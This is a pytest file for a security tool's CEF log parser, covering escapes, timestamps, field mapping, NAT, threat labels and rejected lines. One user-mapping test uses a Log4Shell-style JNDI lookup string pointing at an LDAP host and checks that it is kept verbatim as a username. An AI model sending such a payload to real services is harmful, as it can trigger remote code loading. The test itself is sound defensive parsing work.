"""CEF parser: header and extension escapes, syslog prefixes, field mapping, rejects."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.boundary.parsers import golden_files

from bastion.boundary.parsers import ParseContext, cef, detect_format, get_parser
from bastion.core.events import EVENT_SCHEMA, LINE_COLUMN

CEF = get_parser("cef").parse

PROXY = (
    "<134>Feb  1 08:26:10 fw01 CEF:0|Acme|Web Proxy|2.0|web-1|URL blocked|5|"
    "rt=1714557600123 src=10.1.1.1 spt=50000 dst=93.184.216.34 dpt=443 proto=TCP act=deny "
    "request=https://Bad.Example.com/path/x?q=1 requestMethod=get "
    "requestClientApplication=Mozilla/5.0 (X11; Linux x86_64) in=100 out=2000 "
    "fileHash=ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789 app=HTTPS"
)
ESCAPED = (
    r"CEF:0|Sec\|Corp|threat\\manager|1.0|100|detected a \| in message|10|"
    r"src=10.0.0.1 act=allowed msg=a \= b and c\\d shost=h1 dhost=Files.Example.ORG"
)


def parse(lines: list[str], year: int = 2024):
    return CEF(pl.Series(lines, dtype=pl.String), ParseContext(default_year=year))


def test_proxy_event_maps_every_field() -> None:
    result = parse([PROXY])
    assert result.rejects.height == 0
    assert result.events.columns == [*EVENT_SCHEMA, LINE_COLUMN]
    row = result.events.row(0, named=True)
    assert row["@timestamp"] == datetime(2024, 5, 1, 10, 0, 0, 123000, tzinfo=UTC)
    assert (row["event.dataset"], row["event.action"], row["event.type"]) == (
        "cef",
        "deny",
        "denied",
    )
    assert (row["observer.vendor"], row["observer.product"], row["observer.name"]) == (
        "Acme",
        "Web Proxy",
        "fw01",
    )
    assert (row["source.ip"], row["source.port"], row["source.bytes"]) == ("10.1.1.1", 50000, 100)
    assert (row["destination.ip"], row["destination.port"], row["destination.bytes"]) == (
        "93.184.216.34",
        443,
        2000,
    )
    assert (row["network.transport"], row["network.protocol"], row["network.bytes"]) == (
        "tcp",
        "https",
        2100,
    )
    assert row["url.full"] == "https://Bad.Example.com/path/x?q=1"
    assert (row["url.domain"], row["url.path"]) == ("bad.example.com", "/path/x")
    assert row["http.request.method"] == "GET"
    assert row["user_agent.original"] == "Mozilla/5.0 (X11; Linux x86_64)"
    assert row["file.hash.sha256"] == "abcdef0123456789" * 4
    assert row["rule.name"] == "URL blocked"
    assert row["event.original"] == PROXY


def test_escaped_pipes_backslashes_and_equals_are_honoured() -> None:
    row = parse([ESCAPED]).events.row(0, named=True)
    assert row["observer.vendor"] == "Sec|Corp"
    assert row["observer.product"] == "threat\\manager"
    assert row["rule.name"] == "detected a | in message"
    assert (row["event.action"], row["event.type"]) == ("allowed", "allowed")
    assert row["url.domain"] == "files.example.org"  # from dhost: there is no request


def test_times_in_every_cef_form_and_from_the_syslog_header() -> None:
    lines = [
        "CEF:0|A|B|1|2|n|3|start=May 01 2024 10:00:00 act=drop",
        "CEF:0|A|B|1|2|n|3|end=May 01 2024 10:00:00.250 UTC",
        "CEF:0|A|B|1|2|n|3|rt=May 01 10:00:00",
        "CEF:0|A|B|1|2|n|3|rt=May 01 2024 12:00:00 +0200 src=1.1.1.1",
        "<134>1 2024-05-01T10:00:00Z fw3 app - - - CEF:0|A|B|1|2|n|3|src=1.2.3.4",
        "Sep 19 08:26:10 host CEF:0|A|B|1|2|n|3|src=1.2.3.4",
    ]
    events = parse(lines).events
    ten = datetime(2024, 5, 1, 10, tzinfo=UTC)
    assert events.get_column("@timestamp").to_list() == [
        ten,
        datetime(2024, 5, 1, 10, 0, 0, 250000, tzinfo=UTC),
        ten,
        ten,
        ten,
        datetime(2024, 9, 19, 8, 26, 10, tzinfo=UTC),
    ]
    assert events.get_column("event.type").to_list()[0] == "denied"
    assert events.get_column("observer.name").to_list()[4:] == ["fw3", "host"]


def test_unescaped_pipe_in_extension_stays_in_the_value() -> None:
    row = parse(["CEF:0|A|B|1|2|n|3|request=http://x.org/a|b act=block"]).events.row(0, named=True)
    assert row["url.full"] == "http://x.org/a|b"
    assert row["event.type"] == "denied"


def test_bad_lines_are_rejected_with_reasons() -> None:
    lines = [
        "CEF:0|Acme|FW|1|2",
        "no marker here",
        "CEF:0|A|B|1|2|n|3|rt=yesterday",
        "CEF:0|A|B|1|2|n|3|spt=http",
        "",
        "CEF:0|A|B|1|2|n|3|",
    ]
    result = parse(lines)
    assert result.events.get_column(LINE_COLUMN).to_list() == [5]
    assert result.rejects.to_dicts() == [
        {
            LINE_COLUMN: 0,
            "reason": "cef: missing header fields (need Version|Vendor|Product|Version|ID|Name|Severity|)",
        },
        {LINE_COLUMN: 1, "reason": "cef: no 'CEF:' marker in the line"},
        {
            LINE_COLUMN: 2,
            "reason": "cef: field 'rt' is not epoch milliseconds or 'MMM dd yyyy HH:mm:ss'",
        },
        {LINE_COLUMN: 3, "reason": "cef: field 'spt' is not a port number"},
    ]


def test_extension_edge_cases_empty_trailing_first_and_escapes() -> None:
    line = (
        "CEF:0|A|B|1|2|n|3|src=10.0.0.9 act= requestClientApplication=line\\none\\\\x "
        "request=http://h.example/a\\=b   "
    )
    row = parse([line]).events.row(0, named=True)
    assert row["source.ip"] == "10.0.0.9"  # the first key, at the start of the extension
    assert row["event.action"] is None  # an empty value
    assert row["user_agent.original"] == "line\none\\x"  # \n is a newline, \\ a backslash
    assert row["url.full"] == "http://h.example/a=b"  # escaped '=', trailing blanks trimmed


_VALUE = st.text(alphabet="ab =\\|/:.", min_size=1, max_size=12).map(str.strip).filter(bool)


@settings(max_examples=60, deadline=None)
@given(
    st.fixed_dictionaries({"cs1": _VALUE, "request": _VALUE, "requestClientApplication": _VALUE})
)
def test_extension_values_round_trip_through_cef_escaping(values: dict[str, str]) -> None:
    def escape(value: str) -> str:
        return value.replace("\\", "\\\\").replace("=", "\\=")

    extension = " ".join(f"{key}={escape(value)}" for key, value in values.items())
    line = f"CEF:0|A|B|1|2|n|3|{extension} cs1Label=Threat Name cs2=x"
    row = parse([line]).events.row(0, named=True)
    assert row["threat.name"] == values["cs1"]
    assert row["url.full"] == values["request"]
    assert row["user_agent.original"] == values["requestClientApplication"]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(alphabet="CEF:0|\\= abrt1.", max_size=40), max_size=10))
def test_every_line_is_an_event_or_a_reject(lines: list[str]) -> None:
    result = parse(lines)
    seen = sorted([*result.events.get_column(LINE_COLUMN), *result.rejects.get_column(LINE_COLUMN)])
    assert seen == [i for i, line in enumerate(lines) if line.strip()]


def test_cef_samples_are_detected_as_exactly_cef() -> None:
    assert detect_format([PROXY, ESCAPED]).name == "cef"
    assert detect_format([ESCAPED]).name == "cef"


RECEIVED = datetime(2025, 11, 25, 14, 0, tzinfo=UTC)


def one(line: str, **context: object) -> dict[str, object]:
    ctx = ParseContext(default_year=2025, **context)  # type: ignore[arg-type]
    result = CEF(pl.Series([line], dtype=pl.String), ctx)
    assert result.rejects.height == 0, result.rejects.to_dicts()
    return result.events.row(0, named=True)


def test_a_line_without_rt_takes_the_syslog_time_else_the_receive_time() -> None:
    body = "CEF:0|A|B|1|2|n|3|src=10.0.0.1"
    header = one(f"<134>Nov 25 13:01:02 fw01 {body}", received=RECEIVED)
    assert header["@timestamp"] == datetime(2025, 11, 25, 13, 1, 2, tzinfo=UTC)
    assert one(body, received=RECEIVED)["@timestamp"] == RECEIVED
    before = datetime.now(UTC)
    parsed = one(body)["@timestamp"]
    assert isinstance(parsed, datetime)
    assert before <= parsed <= datetime.now(UTC)  # no receive time given: when it was parsed


def test_times_without_a_zone_are_in_the_source_zone() -> None:
    line = "<134>Jul  1 09:00:00 fw01 CEF:0|A|B|1|2|n|3|src=10.0.0.1"
    assert one(line, timezone="Europe/London")["@timestamp"] == datetime(2025, 7, 1, 8, tzinfo=UTC)
    rt = "CEF:0|A|B|1|2|n|3|rt=Jul 01 2025 09:00:00"
    assert one(rt, timezone="America/New_York")["@timestamp"] == datetime(
        2025, 7, 1, 13, tzinfo=UTC
    )
    utc = "CEF:0|A|B|1|2|n|3|rt=Jul 01 2025 09:00:00 UTC"
    assert one(utc, timezone="America/New_York")["@timestamp"] == datetime(
        2025, 7, 1, 9, tzinfo=UTC
    )
    epoch = "CEF:0|A|B|1|2|n|3|rt=1751360400000"
    assert one(epoch, timezone="Asia/Tokyo")["@timestamp"] == datetime(2025, 7, 1, 9, tzinfo=UTC)


def test_users_and_domains_from_suser_duser_and_sntdom() -> None:
    got = one(r"CEF:0|A|B|1|2|n|3|suser=CORP\\alice duser=EXAMPLE\\bob sntdom=OTHER")
    assert (got["user.name"], got["user.domain"], got["destination.user.name"]) == (
        "alice",
        "CORP",
        "bob",
    )
    plain = one("CEF:0|A|B|1|2|n|3|suser=carol sntdom=CORP")
    assert (plain["user.name"], plain["user.domain"]) == ("carol", "CORP")
    jndi = one("CEF:0|A|B|1|2|n|3|suser=${jndi:ldap://198.51.100.9/a} act=failed")
    assert jndi["user.name"] == "${jndi:ldap://198.51.100.9/a}"


def test_translated_addresses_and_ports_are_nat_fields() -> None:
    got = one(
        "CEF:0|A|B|1|2|n|3|src=10.0.0.5 sourceTranslatedAddress=203.0.113.5 "
        "sourceTranslatedPort=61000 destinationTranslatedAddress=10.20.0.10 "
        "destinationTranslatedPort=8443 dst=203.0.113.10"
    )
    assert (got["source.nat.ip"], got["source.nat.port"]) == ("203.0.113.5", 61000)
    assert (got["destination.nat.ip"], got["destination.nat.port"]) == ("10.20.0.10", 8443)


def test_labelled_custom_strings_fill_threat_url_category_application_and_rule() -> None:
    got = one(
        "CEF:0|Acme|IDS|1|900|Exploit attempt|9|cat=/Attack/Exploit cs1Label=Threat Name "
        "cs1=Log4Shell cs2Label=threat_id cs2=91991 cs3Label=URL Category cs3=Malicious "
        "cs4Label=Application cs4=Web-Browsing cs5Label=Rule Name cs5=inbound-web"
    )
    assert (got["threat.name"], got["threat.id"]) == ("Log4Shell", "91991")
    # No label gives category or severity: the record's own category and severity do.
    assert (got["threat.category"], got["threat.severity"]) == ("/Attack/Exploit", "9")
    assert (got["url.category"], got["network.application"]) == ("Malicious", "web-browsing")
    assert got["rule.name"] == "inbound-web"  # the policy, not the event's name
    no_threat = one("CEF:0|Acme|FW|1|2|Traffic|3|cat=traffic cs1Label=Zone cs1=trust")
    assert (no_threat["threat.category"], no_threat["threat.severity"]) == (None, None)
    assert no_threat["rule.name"] == "Traffic"


@pytest.mark.parametrize(("act", "expected"), sorted(cef.VERDICTS.items()))
def test_every_cef_action_word_has_its_verdict(act: str, expected: str | None) -> None:
    assert one(f"CEF:0|A|B|1|2|n|3|act={act}")["event.type"] == expected
    assert one(f"CEF:0|A|B|1|2|n|3|act={act.title()}")["event.type"] == expected


def test_the_cef_verdict_table_covers_the_words_the_issue_names() -> None:
    named = {"blocked", "denied", "drop", "reset", "allowed", "accept", "permit", "pass", "alert"}
    assert named <= set(cef.VERDICTS)
    assert cef.VERDICTS["alert"] is None


def test_an_address_field_holding_no_address_leaves_the_column_empty() -> None:
    got = one("CEF:0|A|B|1|2|n|3|src=fw-inside dst=10.0.0.300 sourceTranslatedAddress=N/A")
    assert (got["source.ip"], got["destination.ip"], got["source.nat.ip"]) == (None, None, None)


@pytest.mark.parametrize("log", golden_files.cases("cef"), ids=lambda p: p.stem)
def test_golden_records_give_every_mapped_field(log: Path) -> None:
    context = ParseContext(default_year=2025, timezone="Europe/London", received=RECEIVED)
    golden_files.check("cef", log, context)
